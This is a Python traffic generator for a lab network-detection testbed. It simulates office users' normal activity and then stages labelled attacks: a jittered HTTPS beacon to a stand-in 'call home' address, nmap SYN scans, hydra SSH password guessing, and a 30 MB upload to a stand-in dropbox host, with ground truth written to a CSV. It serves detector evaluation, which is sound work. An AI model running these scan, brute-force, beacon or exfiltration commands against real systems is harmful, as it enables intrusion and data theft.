#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""people.py - what the lab's people and machines do, and the attacks; writes down the truth.

    people.py --prefix P --work DIR --out DIR --seconds N --seed N

Every action is a real program (curl, wget, dig, ssh, scp, ping, nmap, hydra) in the namespace of its
host. What they do and in which order is drawn from the seed; when it happens is real time, so two
runs are alike, not equal. The first LEARN_SHARE of the time has no attack in it.
"""

from __future__ import annotations

import argparse
import csv
import json
import random
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

LEARN_SHARE = 0.37
CLIENTS = [f"c{i}" for i in range(11, 23)]
SITES = ["news", "shop", "docs", "cdn"]

# Who attacks. Each is an office machine with a person at it (or, the guesser, an Internet host);
# the targets are chosen so that address, port and time tell an attack from that person's own work.
BEACON, SCANNER, UPLOADER, GUESSER = "c15", "c21", "c18", "guesser"
CALL_HOME_IP, DROPBOX_IP = "203.0.113.66", "192.0.2.99"
BEACON_EVERY_S, BEACON_JITTER = 5.0, 0.3
SCAN_PORTS = "22,445,3389"
UPLOAD_BYTES = 30_000_000
PASSWORDS = 150


@dataclass
class Lab:
    """The run's settings, the moments of its schedule, and what has been recorded as true."""

    prefix: str
    work: Path
    seed: int
    start: float
    end: float
    learn_end: float
    truth: list[list[str]]

    def rng(self, *names: str) -> random.Random:
        return random.Random(" ".join([str(self.seed), *names]))

    def run(self, host: str, *command: str, limit_s: float = 120, text: str = "") -> int:
        """Run a program in a host's namespace, no longer than limit_s and not past the end."""
        left = min(limit_s, self.end - time.time())
        if left <= 0:
            return -1
        argv = ["ip", "netns", "exec", f"{self.prefix}-{host}", *command]
        try:
            done = subprocess.run(argv, input=text.encode(), stdout=subprocess.DEVNULL,
                                  stderr=subprocess.DEVNULL, timeout=left, cwd=self.work)  # fmt: skip
        except subprocess.TimeoutExpired:
            return -1
        return done.returncode

    def sleep(self, seconds: float) -> bool:
        """Sleep; False when the lab's time is over."""
        left = self.end - time.time()
        time.sleep(max(0.0, min(seconds, left)))
        return time.time() < self.end

    def curl(self, host: str, *arguments: str, limit_s: float = 60) -> int:
        fixed = ("curl", "-s", "-o", "/dev/null", "--cacert", str(self.work / "tls.crt"))
        return self.run(host, *fixed, *arguments, limit_s=limit_s)


def think(rng: random.Random, typical_s: float) -> float:
    """A human pause: mostly short, sometimes long (log-normal), never machine-regular."""
    return min(typical_s * 8, rng.lognormvariate(0.0, 0.9) * typical_s)


def browse(lab: Lab, host: str) -> None:
    """Read pages: a page with its pictures, a pause, a few links, then a longer pause."""
    rng = lab.rng(host, "browse")
    small_sites = [f"s{i}" for i in range(101, 131)]
    favourites = rng.sample(SITES, 3) + rng.sample(small_sites, 4)
    while lab.sleep(think(rng, 7)):
        site = rng.choice(favourites if rng.random() < 0.85 else small_sites)
        base = f"{rng.choice(['http', 'https', 'https'])}://{site}.example.com/"
        for _ in range(rng.randint(1, 3)):
            links = [base + f"p{rng.randrange(60)}" for _ in range(rng.randint(1, 6))]
            if rng.random() < 0.15:
                lab.run(host, "wget", "-q", "-O", "/dev/null", "--no-check-certificate", *links)
            else:
                outputs = [word for link in links for word in (link, "-o", "/dev/null")]
                ip_version = "-6" if site == "docs" and rng.random() < 0.6 else "-4"
                parallel = ["-Z"] if rng.random() < 0.4 else []
                lab.curl(host, ip_version, *parallel, base, *outputs)
            if not lab.sleep(think(rng, 3)):
                return


def use_intranet(lab: Lab, host: str) -> None:
    if host == SCANNER:  # this person never opens the intranet, which the scan visits
        return
    rng = lab.rng(host, "intranet")
    while lab.sleep(think(rng, 25)):
        lab.curl(host, f"http://intranet.office.test/p{rng.randrange(60)}")


def look_up(lab: Lab, host: str) -> None:
    """Names that other programs ask for; one in six does not exist."""
    rng = lab.rng(host, "dig")
    while lab.sleep(think(rng, 30)):
        kind = rng.choice(["A", "A", "AAAA", "MX", "TXT"])
        name = rng.choice([*SITES, f"s{rng.randrange(101, 131)}", f"gone{rng.randrange(50)}"])
        lab.run(host, "dig", "+tries=2", "+time=2", kind, f"{name}.example.com")


def work_over_ssh(lab: Lab, host: str, server: str = "shell.office.test") -> None:
    """Sessions with a key: commands with pauses between them, small copies in both directions."""
    rng = lab.rng(host, "ssh")
    options = ["-q", "-i", str(lab.work / "user.key"), "-o", "StrictHostKeyChecking=no",
               "-o", "UserKnownHostsFile=/dev/null", "-o", "IdentitiesOnly=yes"]  # fmt: skip
    commands = ["ls -la /usr/bin", "df -h", "uptime", "cat notes.txt", "ps ax", "uname -a", "id"]
    while lab.sleep(think(rng, 40)):
        if rng.random() < 0.3:
            file = f"ana@{server}:notes.txt"
            lab.run(host, "scp", *options, file, "/dev/null", limit_s=20)
            continue
        script = "; ".join(
            f"{rng.choice(commands)}; sleep {think(rng, 2):.2f}" for _ in range(rng.randint(2, 7))
        )
        lab.run(host, "ssh", *options, f"ana@{server}", script, limit_s=60)


def report_to_monitor(lab: Lab, host: str) -> None:
    """An agent on every client, every 15 s to one internal server: regular, prevalent, harmless."""
    rng = lab.rng(host, "monitor")
    lab.sleep(rng.uniform(0, 15))
    body = "cpu=" + "7" * 300
    while lab.sleep(15 + rng.uniform(-0.4, 0.4)):
        lab.curl(host, "-d", body, "http://monitor.office.test:8080/push")


def check_updates(lab: Lab, host: str) -> None:
    """Every client asks the same Internet server every 40 s; sometimes there is a package."""
    rng = lab.rng(host, "updates")
    lab.sleep(rng.uniform(0, 40))
    while lab.sleep(40 + rng.uniform(-2, 2)):
        path = "update" if rng.random() < 0.12 else "p7"
        lab.curl(host, f"https://updates.example.com/{path}")


def hit_closed_doors(lab: Lab, host: str) -> None:
    """A service that was moved, a printer that is off, a site that is gone."""
    rng = lab.rng(host, "closed")
    doors = ["http://shell.office.test:8443/", "http://10.20.1.99:9100/", "http://203.0.113.200/",
             "http://news.example.com:8081/", "http://10.20.1.98:631/"]  # fmt: skip
    while lab.sleep(think(rng, 60)):
        lab.curl(host, "-m", "4", rng.choice(doors))


def listen_to_music(lab: Lab, host: str) -> None:
    """A long slow download: one flow of half a minute or more."""
    rng = lab.rng(host, "music")
    while lab.sleep(think(rng, 20)):
        lab.curl(host, "--limit-rate", "60k", "https://cdn.example.com/stream", limit_s=75)


def share_photos(lab: Lab, host: str) -> None:
    """Uploads to a site that others use too: 0.2 to 3 MB."""
    rng = lab.rng(host, "photos")
    photo = lab.work / f"photo-{host}"
    while lab.sleep(think(rng, 50)):
        photo.write_bytes(rng.randbytes(rng.randrange(200_000, 3_000_000)))
        lab.curl(host, "-T", str(photo), f"https://docs.example.com/put/{rng.randrange(9999)}")


def back_up(lab: Lab, host: str) -> None:
    """A large copy that stays inside: 12 MB to the file server, once in each part of the run."""
    rng = lab.rng(host, "backup")
    archive = lab.work / f"backup-{host}"
    archive.write_bytes(rng.randbytes(12_000_000))
    options = ["-q", "-i", str(lab.work / "user.key"), "-o", "StrictHostKeyChecking=no",
               "-o", "UserKnownHostsFile=/dev/null"]  # fmt: skip
    moments = [lab.start + 0.5 * (lab.learn_end - lab.start), lab.learn_end + 60]
    for moment in moments:
        if lab.sleep(moment - time.time()):
            lab.run(host, "scp", *options, str(archive), "ana@files.office.test:backup", limit_s=60)


def watch_hosts(lab: Lab, host: str) -> None:
    """The router's neighbour pings the sites, as monitoring does."""
    rng = lab.rng(host, "ping")
    while lab.sleep(think(rng, 20)):
        lab.run(host, "ping", "-q", "-c", "3", "-i", "0.4", f"{rng.choice(SITES)}.example.com")


def record(lab: Lab, kind: str, src: str, dst: str, dst_port: str, meaning: str,
           attack: Callable[[], None]) -> None:  # fmt: skip
    """Run an attack and write down when it really began and ended."""
    start = time.time()
    attack()
    row = [kind, src, dst, dst_port, f"{start:.3f}", f"{time.time():.3f}", meaning]
    lab.truth.append(row)
    print(f"people: {kind} from {src} to {dst} took {time.time() - start:.0f} s", flush=True)


def call_home(lab: Lab) -> None:
    rng = lab.rng("beacon")
    name = "static-sync.example.net"
    while True:
        lab.curl(BEACON, "-k", "--resolve", f"{name}:443:{CALL_HOME_IP}", "-A", "sync/2.1",
                 f"https://{name}/p{rng.choice([3, 3, 3, 3, 4])}")  # fmt: skip
        if not lab.sleep(BEACON_EVERY_S * rng.uniform(1 - BEACON_JITTER, 1 + BEACON_JITTER)):
            return


def guess_passwords(lab: Lab) -> None:
    rng = lab.rng("passwords")
    words = [f"{rng.choice(['summer', 'admin', 'office', 'backup'])}{rng.randrange(10**6)}"
             for _ in range(PASSWORDS)]  # fmt: skip
    path = lab.work / "passwords"
    path.write_text("\n".join(words) + "\n")
    lab.run(GUESSER, "hydra", "-I", "-l", "backup", "-P", str(path), "-t", "4", "ssh://10.20.1.22")


def upload(lab: Lab) -> None:
    path = lab.work / "archive"
    path.write_bytes(lab.rng("archive").randbytes(UPLOAD_BYTES))
    lab.curl(UPLOADER, "-k", "--limit-rate", "1500k", "-T", str(path),
             f"https://{DROPBOX_IP}/put/archive", limit_s=100)  # fmt: skip


def scan(lab: Lab, ports: str, target: str, rate: int) -> None:
    lab.run(SCANNER, "nmap", "-sS", "-Pn", "-n", "--max-retries", "0", "--max-rate", str(rate),
            "-p", ports, target)  # fmt: skip


def attack(lab: Lab) -> None:
    """The attacks one after the other, with the call-home running through all of them."""
    attacked_s = lab.end - lab.learn_end
    home = threading.Thread(target=record, args=(
        lab, "beacon", "10.20.0.15", CALL_HOME_IP, "443",
        "HTTPS request every 5 s +-30 %", lambda: call_home(lab)))  # fmt: skip
    lab.sleep(lab.learn_end + 5 - time.time())
    home.start()
    steps: list[tuple[float, tuple[str, str, str, str, str], Callable[[], None]]] = [
        (0.15, ("scan", "10.20.0.21", "10.20.1.0/24", SCAN_PORTS.replace(",", ";"),
                "nmap SYN scan of three ports on a /24"),
         lambda: scan(lab, SCAN_PORTS, "10.20.1.0/24", 40)),
        (0.35, ("scan", "10.20.0.21", "10.20.1.80", "1-1000", "nmap SYN scan of one host"),
         lambda: scan(lab, "1-1000", "10.20.1.80", 100)),
        (0.45, ("password_guessing", "198.51.100.77", "10.20.1.22", "22",
                "hydra guesses one account's SSH password"), lambda: guess_passwords(lab)),
        (0.75, ("upload", "10.20.0.18", DROPBOX_IP, "443", "30 MB PUT to an unknown host"),
         lambda: upload(lab)),
    ]  # fmt: skip
    for share, about, step in steps:
        lab.sleep(lab.learn_end + share * attacked_s - time.time())
        record(lab, *about, step)
    home.join()


def everybody(lab: Lab) -> list[threading.Thread]:
    """One thread per habit and host."""
    habits: list[tuple[Callable[..., None], tuple[str, ...]]] = []
    for host in CLIENTS:
        for habit in (browse, use_intranet, look_up, report_to_monitor, check_updates,
                      hit_closed_doors):  # fmt: skip
            habits.append((habit, (host,)))
    habits += [(work_over_ssh, (host,)) for host in ("c11", "c13", "c16", "c19")]
    habits += [(work_over_ssh, ("homework", "10.20.1.23")), (work_over_ssh, ("c12", "10.20.1.22"))]
    habits += [(listen_to_music, (host,)) for host in ("c14", "c20")]
    habits += [(share_photos, (host,)) for host in ("c12", "c18", "c22")]
    habits += [(back_up, ("c17",)), (watch_hosts, ("c16",)), (watch_hosts, ("monitor",))]
    threads = [threading.Thread(target=habit, args=(lab, *args)) for habit, args in habits]
    return [*threads, threading.Thread(target=attack, args=(lab,))]


def main() -> int:
    parser = argparse.ArgumentParser(description=(__doc__ or "").split("\n", 1)[0])
    parser.add_argument("--prefix", required=True)
    parser.add_argument("--work", type=Path, required=True)
    parser.add_argument("--out", type=Path, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--seed", type=int, required=True)
    a = parser.parse_args()
    start = time.time()
    learn_end = start + LEARN_SHARE * a.seconds
    lab = Lab(a.prefix, a.work, a.seed, start, start + a.seconds, learn_end, [])
    threads = everybody(lab)
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    with open(a.out / "truth.csv", "w", newline="") as f:
        rows = csv.writer(f, lineterminator="\n")
        rows.writerow("kind,src,dst,dst_port,start,end,meaning".split(","))
        rows.writerows(sorted(lab.truth, key=lambda row: row[4]))
    moments = {"start": start, "learn_end": learn_end, "end": time.time(), "seed": a.seed}
    (a.out / "schedule.json").write_text(json.dumps(moments) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
